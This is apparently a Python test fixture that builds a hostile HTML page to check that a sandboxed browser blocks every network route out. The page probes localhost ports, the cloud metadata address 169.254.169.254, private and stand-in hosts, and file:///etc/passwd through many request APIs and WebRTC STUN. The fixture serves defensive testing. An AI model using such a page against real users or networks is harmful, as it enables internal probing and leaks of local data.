"""A page that tries every way out of a browser that it knows."""

from tests.engine.network.outside import response


def hostile_page(*, tcp: int, udp: int) -> bytes:
    """The answer that holds it. It aims at these ports of this machine, and at addresses that are nobody's."""
    inside = f"127.0.0.1:{tcp}"
    aims = [
        inside,
        "169.254.169.254",
        "10.0.0.1",
        "198.51.100.7",
        f"[::1]:{tcp}",
        f"inside.fr:{tcp}",
        f"localhost:{tcp}",
    ]
    frames = "".join(f"<iframe src='http://{aim}/'></iframe><link rel=stylesheet href='http://{aim}/'>" for aim in aims)
    hints = "".join(
        f"<link rel=dns-prefetch href='//hint{n}.example.fr'><link rel=preconnect href='http://{aim}'>"
        f"<link rel=prefetch href='http://{aim}/'><link rel=prerender href='http://{aim}/'>"
        for n, aim in enumerate(aims)
    )
    script = f"""
    const aims = {aims!r};
    const note = text => {{ out.textContent += text + ' ' }};
    for (const aim of aims) {{
      fetch('http://' + aim + '/').then(answer => answer.text()).then(note).catch(() => note('no'));
      fetch('https://' + aim + '/', {{mode: 'no-cors'}}).catch(() => note('no'));
      navigator.sendBeacon('http://' + aim + '/', 'x');
      for (const scheme of ['ws', 'wss']) try {{ new WebSocket(scheme + '://' + aim + '/') }} catch (error) {{}}
      try {{ new EventSource('http://' + aim + '/') }} catch (error) {{}}
      try {{ new WebTransport('https://' + aim + '/') }} catch (error) {{}}
      const image = new Image(); image.src = 'http://' + aim + '/';
      const script = document.createElement('script'); script.src = 'http://' + aim + '/'; document.body.append(script);
    }}
    const frame = document.createElement('iframe'); frame.src = 'file:///etc/passwd'; document.body.append(frame);
    const servers = ['stun:127.0.0.1:{udp}', 'stun:198.51.100.7:3478', 'stun:stun.example.fr:3478'];
    const call = new RTCPeerConnection({{iceServers: servers.map(urls => ({{urls}}))}});
    call.createDataChannel('x');
    call.onicecandidate = event => {{ if (event.candidate) note(event.candidate.candidate) }};
    call.createOffer().then(offer => call.setLocalDescription(offer));
    setInterval(() => note('.'), 100);  // so that it is given as long as it may have
    note('tried');
    """
    page = f"<html><head>{hints}</head><body><p id=out></p>{frames}<script>{script}</script></body></html>"
    return response(page.encode())
